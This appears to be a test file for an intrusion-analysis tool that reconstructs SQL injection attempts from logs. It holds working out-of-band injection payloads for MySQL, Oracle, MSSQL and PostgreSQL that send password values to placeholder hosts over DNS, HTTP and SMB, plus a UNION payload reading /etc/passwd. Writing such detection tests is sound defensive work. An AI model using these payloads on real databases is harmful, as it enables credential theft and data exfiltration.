import { describe, expect, it } from 'vitest';
import { rebuildInjections } from '../../src/intrusion/injection/rebuild.ts';
import { injectionEvent } from '../fixtures/injection-event.ts';

const read = (payload: string) =>
  [...rebuildInjections([injectionEvent({ query: `q=${encodeURIComponent(payload)}` })]).statements].map(s => [
    s.inBand.technique,
    s.inBand.table?.toLowerCase().split('.').at(-1) ?? null,
    s.inBand.columns,
    s.inBand.target,
  ]);

describe('values sent out of band', () => {
  for (const [name, payload, target] of [
    [
      'mysql, share',
      "x' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT HEX(password) FROM agents LIMIT 0,1),'.k1.example.net\\\\a')) AND 'a'='a",
      '\\\\{…}.k1.example.net\\a',
    ],
    [
      'oracle, web request',
      "1 AND UTL_HTTP.REQUEST('http://k2.example.net/'||(SELECT password FROM agents WHERE ROWNUM=1)) IS NOT NULL",
      'http://k2.example.net/{…}',
    ],
    [
      'oracle, name server',
      "1 AND UTL_INADDR.GET_HOST_ADDRESS((SELECT password FROM agents WHERE ROWNUM=1)||'.k3.example.net') IS NOT NULL",
      '{…}.k3.example.net',
    ],
    [
      'mssql, share built in a variable',
      "1;DECLARE @h VARCHAR(1024);SET @h='\\\\'+(SELECT TOP 1 password FROM agents)+'.k4.example.net\\a';EXEC master..xp_dirtree @h--",
      '\\\\{…}.k4.example.net\\a',
    ],
    ['postgresql, program', "1;COPY (SELECT password FROM agents LIMIT 1) TO PROGRAM 'nslookup k5.example.net'--", 'nslookup k5.example.net'],
  ] as const)
    it(`${name}: attempted, with the address, nothing read`, () => {
      expect(read(payload)).toEqual([['out-of-band', 'agents', ['password'], target]]);
      const rebuilt = rebuildInjections([injectionEvent({ query: `q=${encodeURIComponent(payload)}` })]);
      expect(rebuilt.cells.filter(c => c.solution.status !== 'attempted')).toEqual([]);
      expect([...rebuilt.marks].map(m => m.technique)).toEqual(['out-of-band']);
    });

  it('files, error messages and unions are something else', () => {
    for (const payload of [
      "x' UNION ALL SELECT LOAD_FILE('/etc/passwd'),NULL-- -",
      '1 AND UTL_INADDR.GET_HOST_ADDRESS((SELECT banner FROM v$version WHERE ROWNUM=1)) IS NOT NULL',
      "x' UNION ALL SELECT CONCAT('http://',host,'/'),NULL FROM sites-- -",
    ])
      expect(read(payload).filter(r => r[0] === 'out-of-band')).toEqual([]);
  });
});
